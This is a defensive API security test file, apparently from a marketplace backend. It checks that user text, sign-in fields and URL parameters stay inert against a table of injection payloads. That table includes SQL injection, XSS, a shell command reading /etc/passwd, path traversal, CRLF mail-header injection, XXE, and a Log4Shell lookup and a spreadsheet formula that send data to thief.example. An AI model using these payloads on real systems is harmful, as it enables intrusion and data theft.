import { notificationKinds } from '@tessera/contract/talk/notifications';
import { createGiven } from '@tessera/testkit/given';
import { startMailServer, type MailServer } from '@tessera/testkit/servers/mail-server';
import { startTestServer, type TestServer } from '@tessera/testkit/servers/test-server';
import { emptyInternet } from '@tessera/testkit/servers/web-site';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { callRoute, expectPromised, routes, type NamedRoute } from '@tessera/testkit/routes/calls';
import { bodyFields, exampleBody } from '@tessera/testkit/routes/examples';
import { buildMarketplace, ownerFor, readRows, type Marketplace } from '@tessera/testkit/routes/marketplace';
import { messageIdFor } from '@tessera/testkit/routes/own-calls';
import { needsDeal, ownParams } from '@tessera/testkit/routes/own-params';

/**
 * Guarantees that what somebody writes stays a text: it is stored to the letter and given back as JSON, and neither the
 * database, a mail nor a browser takes it for a command.
 */

const isLong = process.env['TEST_LONG'] === '1';

let server: TestServer;
let mailServer: MailServer;
let market: Marketplace;
beforeAll(async () => {
  mailServer = await startMailServer();
  server = await startTestServer({
    internet: emptyInternet,
    settings: {
      SMTP_URL: mailServer.SMTP_URL,
      FREE_ORDER_LIMIT: '1000',
      FREE_PROJECT_LIMIT: '1000',
      OPEN_APPLICATIONS_MAX: '1000',
      SIGN_IN_FREE_FAILURES: '100000',
    },
  });
  market = await buildMarketplace(server);
  // To others nobody's words are mailed.
  for (const owner of Object.values(market.owners)) await createGiven(server).confirmedEmail(owner);
});
afterAll(async () => {
  await server.stop();
  await mailServer.stop();
});

/** One or two of each kind of text that some interpreter would take for a command. */
const attacks: Record<string, string> = {
  'SQL that ends the statement': `'); drop table account; --`,
  'SQL that is always true': `' or '1'='1`,
  'SQL that waits': `1'; select pg_sleep(10); --`,
  'SQL in a dollar quote': `$$; select 1; $$`,
  'wildcards of LIKE': `%_%\\_`,
  'a placeholder of a statement': '$1 ? :id @id',
  'a JSON path': `{"$gt":""}`,
  'a script': `<script>alert(document.cookie)</script>`,
  'a picture with a script': `"><img src=x onerror=alert(1)>`,
  'an address with a script': `javascript:alert(1)//`,
  'a script in SVG': `<svg/onload=alert(1)>`,
  'an end of a comment': `--><!--`,
  'a template': '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
  'a command': '; cat /etc/passwd | sh `id` $(id)',
  'a path': '../../../../etc/passwd',
  'a path of another system': '..\\..\\windows\\win.ini',
  'a new line and a header': 'Hello\r\nSet-Cookie: a=b\r\nBcc: thief@example.org\r\n\r\n<p>',
  'an end of a mail': 'Hello\r\n.\r\nMAIL FROM:<thief@example.org>\r\n',
  'a formula': '=HYPERLINK("http://thief.example/?"&A1,"click")',
  'a formula with a command': "=cmd|'/c calc'!A0",
  'a format': '%s%s%n%x{0}',
  'an entity': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  'a query of a directory': '*)(uid=*))(|(uid=*',
  'a look-up': '${jndi:ldap://thief.example/a}',
  'text that runs backwards': '\u202etxt.exe',
  'a line separator': 'a\u2028b\u2029c',
};

const textSchemas = ({ route }: NamedRoute) =>
  Object.entries(bodyFields(route) ?? {}).filter(
    ([name, schema]) =>
      schema.type === 'string' && schema.enum === undefined && !fieldsOfCodes.includes(name),
  );
const textFields = (one: NamedRoute) => textSchemas(one).map(([name]) => name);

/** What every field of words takes. */
const ATTACK_LENGTH_MAX = 40;

/**
 * What is written into each field of words of a call, one after the other: an attack, or as many as the shortest field holds where
 * every call needs a deal of its own. The long form tries each attack alone everywhere.
 */
function attackTexts(one: NamedRoute): string[] {
  const short = Object.values(attacks).map((attack) => attack.slice(0, ATTACK_LENGTH_MAX));
  if (isLong || !needsDeal(one.name)) return short;
  const lengthMax = Math.min(...textSchemas(one).map(([, schema]) => schema.maxLength ?? 0));
  return short.reduce<string[]>((texts, attack) => {
    const last = texts.at(-1);
    const joined = last === undefined ? attack : `${last} ${attack}`;
    if (last === undefined || joined.length > lengthMax) texts.push(attack);
    else texts[texts.length - 1] = joined;
    return texts;
  }, []);
}

/** Texts with a fixed set of values; whether one is in it is tested where they belong. */
const fieldsOfCodes = [
  'country_code',
  'verdict',
  'path',
  'designer_id',
  'order_id',
  'message_id',
  'delivery_id',
  'id',
  'current_password',
  'code',
  'email',
  'password',
  'link',
  'slug',
  'website',
  'refresh',
];

/** Whom an operator decides on: accounts of the builders of test data. */
const NEWCOMER = /^(designer|customer)-\d+-\d+@example\.org$/;

/** Texts that the answer holds under another name than the body. */
const namesInReply: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'reviews.answer': { text: 'answer' },
};

const withTexts = routes.filter((one) => one.route.access !== 'public' && textFields(one).length > 0);
const named = (list: readonly NamedRoute[]) => list.map((one) => [one.name, one] as const);

const ownerOf = ({ route }: NamedRoute) => ownerFor(market, route);

/** Whether a mail's headers or its HTML could fall for an attack: mails are sent only of these, because each takes a while. */
const isAboutMails = (attack: string) => /[\r\n<]/.test(attack);

/** Has the owners told by mail of what happens from now on, or not. */
async function wantMails(isWanted: boolean): Promise<void> {
  const choice = { in_product: true, by_mail: isWanted };
  const change = Object.fromEntries(
    notificationKinds.filter((kind) => kind !== 'account').map((kind) => [kind, choice]),
  );
  for (const owner of [market.owners.customer, market.owners.designer])
    expect((await owner.put('user/notification-settings/', change)).status).toBe(200);
}

/** What an answer of a call with words of an attacker must look like to be harmless in a browser. */
function expectInert(headers: Headers): void {
  expect(headers.get('content-type')).toMatch(/^application\/(problem\+)?json/);
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('set-cookie')).toBeNull();
}

describe('a text', () => {
  test.each(named(withTexts))('is returned exactly as it was sent, as JSON: %s', async (_name, one) => {
    for (const attack of attackTexts(one)) {
      await wantMails(isAboutMails(attack));
      const texts = Object.fromEntries(textFields(one).map((field) => [field, attack]));
      const body = exampleBody(one.route, {
        designer_id: market.ids.designer,
        order_id: market.ids.order,
        message_id: messageIdFor(one.name, market),
        delivery_id: undefined,
        id: market.ids.message,
        images_ordering: one.name === 'portfolio.update' ? ['exists'] : [],
        images_ids: one.name === 'portfolio.update' ? [market.ids.photo] : [],
        ...texts,
      })!;
      const reply = await callRoute(server.url, one.route, {
        token: ownerOf(one).tokens.access,
        params: await ownParams(server, market, one),
        body,
        files: {},
      });
      const isTaken = [one.route.status, one.route.repeatStatus].includes(reply.status as 200);
      expect([attack, isTaken, reply.text]).toEqual([attack, true, reply.text]);
      expectPromised(one.route, reply);
      if (reply.text !== '') expectInert(reply.headers);
      // A form's line ends are CRLF on the wire, whatever they were.
      const onWire = (value: string) => (one.route.files ? value.replace(/\r\n?|\n/g, '\r\n') : value);
      const inReply = (field: string) => namesInReply[one.name]?.[field] ?? field;
      const given = Object.entries(texts).filter(([field]) => inReply(field) in (reply.json ?? {}));
      expect(given.map(([field]) => reply.json[inReply(field)])).toEqual(
        given.map(([, value]) => onWire(value)),
      );
    }
  });

  test('is in every list exactly as it was sent, and no table is missing', async () => {
    const rows = await readRows(server);
    // The owners, the strangers and the operator; and those whom the operator acted on.
    expect(rows['account']!.length).toBeGreaterThanOrEqual(5);
    const { body } = await market.owners.customer.get('customer/order/', { query: { limit: 500 } });
    const names = body.results.map((order) => order.object_name);
    for (const attack of Object.values(attacks)) expect(names).toContain(attack.slice(0, ATTACK_LENGTH_MAX));
  });

  test('adds neither a header nor a receiver to a mail', async () => {
    await server.jobsDone();
    const attacked = mailServer.news.filter(({ text, subject }) => `${text}${subject}`.includes('Bcc'));
    expect(attacked.length).toBeGreaterThan(0);
    const receivers = new Set([
      'support@tessera.example',
      ...[...Object.values(market.owners), market.operator].map(({ email }) => email),
    ]);
    for (const mail of mailServer.news) {
      expect(mail.bcc ?? []).toEqual([]);
      expect(mail.cc ?? []).toEqual([]);
      expect(mail.headers.filter(({ key }) => key === 'set-cookie')).toEqual([]);
      const addresses = (mail.to ?? []).map(({ address }) => address ?? '');
      expect(addresses.filter((address) => !receivers.has(address) && !NEWCOMER.test(address))).toEqual([]);
      expect(mail.html ?? '').not.toMatch(/<(script|img|svg|iframe)/i);
    }
  });
});

describe('a sign-in', () => {
  test.each(Object.entries(attacks))('does not succeed with %s', async (_what, attack) => {
    const { email } = market.owners.customer;
    for (const credentials of [
      { email: attack, password: attack },
      { email, password: attack },
      { email: `${email}${attack}`, password: 'Quiet-Harbour-71' },
      { email: email.replace(/^./, '%'), password: 'Quiet-Harbour-71' },
      { email: email.replace(/^./, '_'), password: 'Quiet-Harbour-71' },
    ]) {
      const { status, body } = await server.client().post('user/sign-in/', credentials);
      expect([status, body.code]).toEqual([401, 'no_active_account']);
    }
  });
});

describe('a parameter', () => {
  const values = [
    ...Object.values(attacks),
    '\0',
    'a\0b',
    '%00',
    '../..',
    '%2e%2e%2f',
    '//evil.example',
    '\\evil',
  ];

  test.each(named(routes.filter(({ route }) => route.params !== undefined)))(
    'of the path finds nothing: %s',
    async (_name, one) => {
      for (const value of values) {
        const body = exampleBody(one.route);
        const reply = await callRoute(server.url, one.route, {
          token: ownerOf(one).tokens.access,
          params: { id: value, designer: value },
          ...(body && { body }),
          files: {},
        });
        expectPromised(one.route, reply);
        expect([value, [400, 404, 405].includes(reply.status)]).toEqual([value, true]);
        expectInert(reply.headers);
      }
    },
  );

  test.each(named(routes.filter(({ route }) => route.query !== undefined)))(
    'of the query is a number or nothing: %s',
    async (_name, one) => {
      for (const value of values) {
        const query = Object.fromEntries(
          ['limit', 'offset', 'page', 'page_size', 'order', 'style', 'scope'].map((name) => [name, value]),
        );
        const reply = await callRoute(server.url, one.route, { token: ownerOf(one).tokens.access, query });
        expectPromised(one.route, reply);
        expectInert(reply.headers);
        const isRefused =
          (one.route.errors?.includes('invalid_choice') && reply.json.code === 'invalid_choice') ||
          (!one.route.query!.safeParse({}).success && reply.status === 400);
        expect([value, isRefused || [200, 404].includes(reply.status)]).toEqual([value, true]);
      }
    },
  );
});
